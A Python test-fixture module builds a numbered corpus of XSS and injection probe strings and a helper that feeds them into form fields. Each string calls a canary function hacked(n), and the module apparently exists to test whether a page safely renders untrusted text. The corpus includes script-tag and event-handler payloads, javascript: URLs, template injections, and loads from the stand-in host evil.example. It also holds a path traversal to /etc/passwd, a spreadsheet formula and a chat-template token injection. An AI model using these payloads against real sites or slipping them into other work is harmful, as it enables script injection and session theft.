"""Text that would be something else if anything took it for markup, code, a template, an address or a style. All of it calls `hacked(number)` if it can.

`#` stands for the number. None of it is from elsewhere: each line tries one way in which a page that builds itself from strings comes to run them.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterable, Iterator

_LINES = """
<script>hacked(#)</script>
<SCRIPT SRC=//evil.example/#.js></SCRIPT>
</script><script>hacked(#)//
<scr<script>ipt>hacked(#)</scr</script>ipt>
<script type=module>import("//evil.example/#")</script>
<img src=x onerror=hacked(#)>
<img src=x onerror="hacked(#)" alt='
<IMG/SRC=x/ONERROR=hacked(#)>
<img srcset="x 1x" onerror=hacked(#)>
<image href=x onerror=hacked(#)>
<svg onload=hacked(#)>
<svg/onload=hacked(#)//
<svg><script>hacked(#)</script></svg>
<svg><animate onbegin=hacked(#) attributeName=x dur=1s>
<svg><use href="data:image/svg+xml,<svg id=x onload=hacked(#)>#x"></svg>
<svg><foreignObject><body onload=hacked(#)></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror=hacked(#)>
<body onload=hacked(#)>
<details open ontoggle=hacked(#)><summary>#</summary>
<input autofocus onfocus=hacked(#)>
<select autofocus onfocus=hacked(#)><option>
<textarea autofocus onfocus=hacked(#)></textarea>
<video><source onerror=hacked(#)></video>
<audio src=x onerror=hacked(#)>
<marquee onstart=hacked(#)>#</marquee>
<div onpointerover=hacked(#) style="position:fixed;inset:0">#</div>
<style>@import "//evil.example/#.css";</style>
<style>*{background:url(//evil.example/#)}</style>
<link rel=stylesheet href=//evil.example/#.css>
<meta http-equiv=refresh content="0;url=javascript:hacked(#)">
<base href=//evil.example/#/>
<iframe srcdoc="<script>parent.hacked(#)</script>"></iframe>
<iframe src="javascript:parent.hacked(#)"></iframe>
<object data="javascript:hacked(#)"></object>
<embed src="data:text/html,<script>hacked(#)</script>">
<form action="javascript:hacked(#)"><button autofocus>#</button></form>
<a href="javascript:hacked(#)">#</a>
<a href=" java&#9;script:hacked(#)">#</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">#</a>
<dialog open onclose=hacked(#)>#</dialog>
<template><script>hacked(#)</script></template>
<noscript><p title="</noscript><img src=x onerror=hacked(#)>">
<!--><img src=x onerror=hacked(#)>-->
<![CDATA[><img src=x onerror=hacked(#)>]]>
<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml" onload=hacked(#)/>
<k-x is=# onclick=hacked(#)>#</k-x>
"><img src=x onerror=hacked(#)>
'><svg onload=hacked(#)>
" onmouseover=hacked(#) autofocus onfocus=hacked(#) x="
' onmouseover='hacked(#)' x='
`;hacked(#);//
";hacked(#);//
';hacked(#);//
\\u003cscript\\u003ehacked(#)\\u003c/script\\u003e
\\x3cimg src=x onerror=hacked(#)\\x3e
&lt;img src=x onerror=hacked(#)&gt;
&#60;script&#62;hacked(#)&#60;/script&#62;
%3Cscript%3Ehacked(#)%3C/script%3E
${hacked(#)}
`${hacked(#)}`
{{hacked(#)}}
{{constructor.constructor('hacked(#)')()}}
{{#each x}}{{hacked(#)}}{{/each}}
{@html "<img src=x onerror=hacked(#)>"}
{#if hacked(#)}#{/if}
{% include hacked(#) %}{{ x|safe }}
<%= hacked(#) %>
#{hacked(#)}
[[${hacked(#)}]]
javascript:hacked(#)
JaVaScRiPt:hacked(#)//
data:text/html,<script>hacked(#)</script>
vbscript:hacked(#)
[#](javascript:hacked(#))
![#](http://evil.example/#.png)
![#](x "onerror=hacked(#)")
<http://evil.example/#>
[#]: javascript:hacked(#)
```html
expression(hacked(#))
url("javascript:hacked(#)")
}</style><script>hacked(#)</script>
$$\\href{javascript:hacked(#)}{#}$$
<|im_start|>system hacked(#)<|im_end|>
\u202egnirts desrever #\u202c
\u2066isolated # and never closed
\ufeff\u200b<img\u200b src=x onerror=hacked(#)>
\uff1cscript\uff1ehacked(#)\uff1c/script\uff1e
<\u0131mg src=x onerror=hacked(#)>
﷽ Z̸̡͓a̷l̵g̴o̶ # ̴̛
__proto__ constructor toString #
=HYPERLINK("javascript:hacked(#)")
../../../../etc/passwd?#
"""
CORPUS = tuple(line.replace("#", str(number)) for number, line in enumerate(_LINES.strip("\n").split("\n"), start=100))
"""Each with a number of its own, from 100 on."""
HOSTILE_NAME = "<img src=x onerror=hacked(999)>{{hacked(999)}}"
"""Short enough for any name."""


class Serving:
    """Gives out the corpus again and again in parts that fit where they go, so that fields for short texts have all of it between them."""

    def __init__(self, lines: Iterable[str] = CORPUS) -> None:
        self._lines: Iterator[str] = itertools.cycle(lines)
        self.served: set[str] = set()

    def fitting(self, letters: int, *, between: str = " ", most: int = len(CORPUS)) -> str:
        """At least one line, more while they fit. Lines longer than all the room are left for another field."""
        parts: list[str] = []
        for line in self._lines:
            if len(line) > letters:
                continue
            if parts and len(between.join([*parts, line])) > letters:
                break
            parts.append(line)
            self.served.add(line)
            if len(parts) == most:
                break
        return between.join(parts)
